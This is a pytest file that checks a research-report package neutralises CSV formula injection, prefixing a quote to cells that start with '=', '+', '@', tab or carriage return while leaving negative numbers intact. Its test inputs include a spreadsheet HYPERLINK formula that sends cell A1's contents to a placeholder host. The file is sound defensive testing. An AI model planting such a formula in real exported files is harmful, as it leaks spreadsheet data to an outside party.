"""Formula injection (issue 19, item 4): no cell of a CSV the report writes starts a
formula in a spreadsheet (OWASP CSV-injection guidance), and numbers stay numbers."""

import csv
import io
from types import SimpleNamespace

import pytest

from retrostudy.report import write_report
from retrostudy.report.spreadsheet import neutralise
from retrostudy.report.table import Cell, Row, Table

HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd",
                                  "-0.5 (-0.9, -0.1)", "=1", "+4", "+"])
def test_formula_starts_are_prefixed_with_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.25", "-3", "-1e-3", "-.5", "12 (4.0)", "Tmab", "",
                                  "-", "<5", "\u22120.3"])
def test_numbers_and_plain_text_are_unchanged(text):
    assert neutralise(text) == text


def test_every_csv_the_report_writes_is_neutralised(tmp_path):
    table = Table(key="t1", title="Hostile labels", stub="@stub", columns=(HOSTILE, "n"),
                  rows=(Row(label="+group", cells=(Cell(text="-1.5"), Cell(text="=2+2"))),))
    report = SimpleNamespace(tables={"t1": table})
    write_report(report, tmp_path, outputs=("csv",), figure_formats=())
    text = (tmp_path / "tables" / "t1.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'@stub", "'" + HOSTILE, "n"], ["'+group", "-1.5", "'=2+2"]]
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert [c for c in cells if c.startswith("-")] == ["-1.5"]  # numeric: left as is
